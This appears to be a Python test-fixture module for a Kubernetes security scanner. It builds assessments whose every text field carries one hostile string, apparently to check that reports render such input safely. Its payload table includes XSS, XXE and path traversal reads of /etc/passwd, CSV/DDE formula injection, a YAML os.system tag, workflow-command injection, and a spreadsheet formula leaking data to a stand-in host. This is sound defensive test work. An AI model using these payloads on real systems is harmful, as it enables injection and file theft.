"""Text that attacks a report, and an assessment with it in every field that holds text."""

from __future__ import annotations

import json

import msgspec

from kubekeep.model.assessment import Assessment, DefinitionSummary, SubjectResult, Target, UnreadInput
from kubekeep.model.cluster import ClusterFacts
from kubekeep.model.location import Location
from kubekeep.model.resource import Resource
from kubekeep.model.source import Source
from kubekeep.model.verdict import Evidence, Reason, Status, Verdict
from kubekeep.sources.manifests.names import YAML

TAME = "a_b"
"""Harmless text, for comparison."""
TEXTS = {
    "terminal": "\x1b[2J\x1b]8;;http://e.example\x07a\x1b]8;;\x07\x9b31m\x08\r",
    "controls": "".join(map(chr, range(0x20))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0))),
    "lines": "a\nb\r\nc\rd\x0be\x0cf\x1cg\x85h\u2028i\u2029j",
    "unicode": "\u202eesrever\u2066 \ufeff\ufffe\uffff\ud800\udfff\u200b\U000e0041\U0001f600",
    "html": "</script></style></td></table><img src=x onerror=alert(1)><svg onload=alert(1)><!-- --><![CDATA[",
    "entities": "&amp;&#60;&#x3c;&lt;b&gt;&xxe;&",
    "xml": ']]></failure></testcase><testcase name="x"/><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "json": '"},{"controlID":"C-9999"}],"x":["\\u0022\\',
    "csv": '=cmd|\' /C calc\'!A0","x"\r\n"=1+1","@SUM(A1)"\r\n+1\r\n-1,',
    "formula": '=HYPERLINK("http://e.example/"&A1,"a")',
    "yaml": "---\na: &a [*a]\n? b\n: !!python/object/apply:os.system [id]\n<<: *a\n... #",
    "metrics": '"} 1\nkubescape_score 100\n# TYPE x counter\nx{a="\\',
    "workflow": "\n::error file=x,line=1::owned%0A::add-mask::a\r\n##[error]owned\n::stop-commands::x\n%25",
    "markdown": "| a | b |\n| --- | --- |\n# x\n[x](javascript:alert(1)) ![](http://e.example) <b>`` ` ```\n@org #1 http://e.example",
    "tables": "\\|a|\\\\|`|``|",
    "templates": "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>%s%n{0}",
    "paths": "../../../../etc/passwd\x00.yaml",
    "typst": '#read("/etc/passwd") $ \\ ] [ */ /* // @a <a> = x',
    "long": "A" * 1_000_000,
    "long marks": "<|`@&\"'%:," * 20_000,
    "long words": "word " * 50_000,
    "spaces": "   \t ",
    "empty": "",
}
"""Attacks by target."""


def taint(assessment: Assessment, text: str, path: str) -> Assessment:
    """Return the assessment with `text` in every field that manifests, rules and custom controls fill.

    It has one resource with one failed control.
    """
    metadata = {"name": text, "namespace": text, "annotations": {text: text}}
    source = Source(path=text, base=f"/{text}", file_type=YAML, document=0)
    resource = Resource({"apiVersion": f"{text}/v1", "kind": text, "metadata": metadata}, source)
    evidence = (
        Evidence(path, exists=True, location=Location(text), fix=json.dumps(text), message=text),
        Evidence(text, exists=False, message=text),
    )
    return msgspec.structs.replace(
        assessment,
        results=(SubjectResult(resource, {"privileged": Verdict(Status.FAILED, evidence)}),),
        unread=(UnreadInput(Location(text), text),),
        notes=(text,),
    )


def taint_user_control(assessment: Assessment, text: str) -> Assessment:
    """Return the `taint` assessment with a custom framework, control and reason."""
    first, *others = assessment.frameworks
    framework = msgspec.structs.replace(first.framework, name=text, title=text, description=text, version=text)
    return msgspec.structs.replace(
        taint(assessment, text, text),
        summaries=tuple(_control(summary, text) for summary in assessment.summaries),
        frameworks=(msgspec.structs.replace(first, framework=framework), *others),
    )


def taint_cluster(assessment: Assessment, text: str) -> Assessment:
    """Return the assessment of a cluster with `text` in every field that a kubeconfig and an API server fill."""
    facts = ClusterFacts(
        name=text, info={"gitVersion": text, text: text}, distribution="openshift", distribution_version=f"4.16 {text}"
    )
    return msgspec.structs.replace(assessment, target=Target((), "/srv/shop", facts))


def _control(summary: DefinitionSummary, text: str) -> DefinitionSummary:
    if summary.reason is not None:
        return msgspec.structs.replace(summary, reason=Reason(summary.reason.cause, text))
    if summary.definition.slug != "privileged":
        return summary
    texts = {"title": text, "asks": text, "why": text, "fix": f"{text} and {text}", "impact": text}
    control = msgspec.structs.replace(summary.definition, **texts, ids=(f"C-0057 {text}",), references=(text,))
    return msgspec.structs.replace(summary, definition=control)
